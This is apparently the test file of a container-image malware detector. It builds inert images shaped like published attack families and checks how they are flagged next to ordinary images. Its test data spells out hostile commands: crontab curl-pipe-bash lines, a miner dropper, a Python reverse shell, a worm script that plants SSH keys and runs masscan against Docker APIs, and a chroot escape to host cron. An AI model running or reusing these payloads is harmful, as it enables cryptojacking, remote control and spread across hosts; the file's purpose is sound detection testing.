// Images in the shape of published attacks, inert and with addresses of documentation, and ordinary ones beside them:
// what the whole of detection says of each.
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <set>

#include "detect/image_builder.hpp"

namespace hullcheck::detect {
namespace {

std::string slurp(const std::string& path) {
  std::ifstream in(std::string(HULLCHECK_TEST_DATA) + "/" + path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

std::string said(const Assessment& assessment) {
  std::string text;
  for (const auto& finding : assessment.threats) text += finding.rule + " ";
  text += "| ";
  for (const auto& finding : assessment.warnings) text += finding.rule + " ";
  return text;
}

model::ThreatLevel worst(const Assessment& assessment) {
  return assessment.threats.empty() ? model::ThreatLevel::risky : assessment.threats.front().level;
}

bool mentions(const Assessment& assessment, std::string_view rule) {
  return find_rule(assessment.threats, rule) != nullptr || find_rule(assessment.warnings, rule) != nullptr;
}

// docker123321, the "mysql" and "cron" images: the command writes a line into the host's crontab.
TEST(Families, CronLineIntoAMountedHost) {
  ImageBuilder image;
  image.config().cmd = {
      "sh", "-c",
      "echo '* * * * * curl -s http://192.0.2.10:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab; sleep 86400"};
  image.program("bin/sh");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  EXPECT_TRUE(mentions(found, "I04")) << said(found);
  EXPECT_TRUE(mentions(found, "D11")) << said(found);
}

// The script that it fetched, when it lies in the image: a picture's name, rivals killed, a miner fetched and hidden.
TEST(Families, ScriptUnderAPicturesName) {
  ImageBuilder image;
  image.config().entrypoint = {"/bin/bash", "/logo3.jpg"};
  image.program("bin/bash")
      .file("logo3.jpg",
            "#!/bin/sh\n"
            "ps aux | grep -v java | grep 'stratum' | awk '{print $2}' | xargs kill -9\n"
            "ps aux | grep 'cryptonight' | awk '{print $2}' | xargs kill -9\n"
            "pkill -f minerd\n"
            "crontab -r\n"
            "curl -so /var/tmp/config.json http://192.0.2.10:8220/1.json\n"
            "curl -so /var/tmp/suppo http://192.0.2.10:8220/rig\n"
            "chmod 777 /var/tmp/suppo\n"
            "sysctl -w vm.nr_hugepages=$(( $(grep -c processor /proc/cpuinfo) * 3 ))\n"
            "nohup /var/tmp/suppo -c /var/tmp/config.json >/dev/null 2>&1 &\n");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  for (const std::string_view rule : {"M15", "D02", "M14", "D04"})
    EXPECT_TRUE(mentions(found, rule)) << rule << ": " << said(found);
}

// docker123321, the "tomcat" images: a reverse shell in Python beside the server.
TEST(Families, ReverseShellInPythonAtStart) {
  ImageBuilder image;
  image.config().cmd = {"/bin/sh", "-c", "python3 /usr/bin/helper.py & catalina.sh run"};
  image.program("bin/sh")
      .program("usr/bin/python3")
      .file("usr/bin/helper.py",
            "import socket, os, pty\n"
            "s = socket.socket()\ns.connect(('192.0.2.10', 4444))\n"
            "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')\n");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  EXPECT_TRUE(mentions(found, "B02")) << said(found);
}

// Kinsing: an ordinary image, and everything in the command.
TEST(Families, OrdinaryImageWithADownloadAsCommand) {
  ImageBuilder image;
  image.config().cmd = {
      "/bin/bash", "-c",
      "apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - 192.0.2.11/d.sh | "
      "sh;tail -f /dev/null"};
  image.program("bin/bash");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  for (const std::string_view rule : {"D01", "D10", "I04", "D04"})
    EXPECT_TRUE(mentions(found, rule)) << rule << ": " << said(found);
}

// TeamTNT: a script named like the daemon, scanners, containers on other machines, attributes, encoded text.
TEST(Families, WormNamedLikeTheDaemon) {
  ImageBuilder image;
  image.config().entrypoint = {"/root/dockerd"};
  image.program("bin/bash")
      .script("root/dockerd",
              "apk add masscan jq docker-cli\n"
              "chattr -ia /etc/ld.so.preload /root/.ssh/authorized_keys\n"
              "echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys\n"
              "echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xMi9zaC9pbml0LnNoIHwgYmFzaA== | base64 -d | bash\n"
              "masscan 198.51.100.0/24 -p2375,2376 --rate 5000 | awk '{print $6}' | while read ip; do\n"
              "  docker -H tcp://$ip:2375 run -d --restart=always --privileged -v /:/host example.com/x/y\n"
              "done\n"
              "tmate -F -n x\n");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  for (const std::string_view rule : {"D07", "H05", "H10", "H01", "P09", "B08", "B05", "D10"})
    EXPECT_TRUE(mentions(found, rule)) << rule << ": " << said(found);
}

// Doki: curl in a small image, out through a chroot, a tunnel's name, cron of the host.
TEST(Families, ChrootToTheHostThroughATunnel) {
  ImageBuilder image;
  image.config().entrypoint = {
      "sh", "-c",
      "curl --retry 3 -m 60 -o /tmp/abc \"http://abcd.ngrok.io/f/serve?l=d\"; chroot /mnt sh -c "
      "\"echo '* * * * * root sh /tmp/abc' > /etc/cron.d/1m\"; sh /tmp/abc"};
  image.program("bin/sh");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  for (const std::string_view rule : {"H03", "D02", "D05"})
    EXPECT_TRUE(mentions(found, rule)) << rule << ": " << said(found);
}

// kazutod/tene: 63 rounds round a program that holds no word of mining.
TEST(Families, SixtyThreeRounds) {
  ImageBuilder image;
  image.config().entrypoint = {"python3", "/opt/app/run.py"};
  const std::string code = slurp("detect/cases/script-flow/python-nested-rounds/files/opt/app/run.py");
  ASSERT_GT(code.size(), 1000U);
  image.program("usr/bin/python3").file("opt/app/run.py", code);
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::malicious) << said(found);
  ASSERT_TRUE(mentions(found, "D08")) << said(found);
  EXPECT_NE(find_rule(found.threats, "D08")->evidence.front().find("63 rounds"), std::string::npos);
}

// Commands inside a program of another language weigh by how that program gets run.
TEST(Families, PythonStartScriptThatFetchesCode) {
  ImageBuilder image;
  image.config().entrypoint = {"python3", "/srv/start.py"};
  image.program("usr/bin/python3")
      .file("srv/start.py",
            "import os, subprocess\nurl = 'http://get.example.com/' + 'x.sh'\n"
            "subprocess.call('curl -s ' + url + ' | sh', shell=True)\n");
  const Assessment started = image.assess();
  EXPECT_EQ(worst(started), model::ThreatLevel::unverifiable_at_start) << said(started);
  EXPECT_TRUE(mentions(started, "D01")) << said(started);

  ImageBuilder lying;
  lying.config().entrypoint = {"/srv/server"};
  lying.program("srv/server")
      .file("srv/tool.py", "import os\nos.system('curl -s http://get.example.com/x.sh | sh')\n");
  EXPECT_TRUE(lying.assess().threats.empty()) << said(lying.assess());
}

TEST(Families, PythonStartScriptThatRunsFetchedCode) {
  ImageBuilder image;
  image.config().entrypoint = {"python3", "/srv/start.py"};
  image.program("usr/bin/python3")
      .file("srv/start.py",
            "import urllib.request\nexec(urllib.request.urlopen('https://get.example.com/x.py').read())\n");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::unverifiable_at_start) << said(found);
}

TEST(Families, HookThatStartsAnObfuscatedFile) {
  std::string code;
  for (int i = 0; i < 30; ++i)
    code += "var _0" + std::string("x") + std::to_string(100000 + i) + " = f(_0" + "x" + std::to_string(100000 + i) +
            ");\n";
  ImageBuilder image;
  image.config().cmd = {"/srv/server"};
  image.program("srv/server")
      .file("app/node_modules/a/package.json", "{\"scripts\": {\"preinstall\": \"node index.js\"}}")
      .file("app/node_modules/a/index.js", code);
  const Assessment found = image.assess();
  EXPECT_TRUE(mentions(found, "L02") && mentions(found, "L03")) << said(found);
}

TEST(Families, ApplicationWhosePackagesAreAllFetchedAtStart) {
  ImageBuilder image;
  image.config().entrypoint = {"docker-entrypoint.sh"};
  image.program("bin/sh").program("usr/bin/python3").script(
      "usr/local/bin/docker-entrypoint.sh",
      "pip install -r requirements.txt\npython manage.py migrate\nexec gunicorn app:app\n");
  const Assessment found = image.assess();
  EXPECT_EQ(worst(found), model::ThreatLevel::unverifiable_at_start) << said(found);
}

TEST(Families, OrdinaryImagesAreNoThreat) {
  struct Ordinary {
    const char* name;
    std::vector<std::string> cmd;
    std::string script;
    std::vector<std::string> files = {};
  };
  const std::vector<Ordinary> list = {
      {"database",
       {"docker-entrypoint.sh", "postgres"},
       "set -e\nif [ \"$(id -u)\" = 0 ]; then\n  mkdir -p \"$PGDATA\"\n  chown -R postgres \"$PGDATA\"\n  exec gosu "
       "postgres \"$0\" \"$@\"\nfi\n"
       "for f in /docker-entrypoint-initdb.d/*; do case \"$f\" in *.sh) . \"$f\";; esac; done\nexec \"$@\"\n"},
      {"web server",
       {"docker-entrypoint.sh", "nginx", "-g", "daemon off;"},
       "envsubst < /etc/nginx/template > /etc/nginx/nginx.conf\nuntil nc -z db 5432; do sleep 2; done\nexec "
       "\"$@\"\n"},
      {"application",
       {"docker-entrypoint.sh"},
       "npm install\nnpm run migrate\nexec node server.js\n",
       {"app/node_modules/express/index.js"}},
      {"health check",
       {"docker-entrypoint.sh"},
       "while ! curl -sf http://localhost:8080/health > /dev/null; do sleep 1; done\nexec java -jar /app/app.jar\n"},
  };
  for (const Ordinary& one : list) {
    ImageBuilder image;
    image.config().entrypoint = one.cmd;
    image.program("bin/sh").script("usr/local/bin/docker-entrypoint.sh", one.script);
    for (const std::string& file : one.files) image.file(file, "x");
    const Assessment found = image.assess();
    EXPECT_TRUE(found.threats.empty()) << one.name << ": " << said(found);
  }
}

}  // namespace
}  // namespace hullcheck::detect
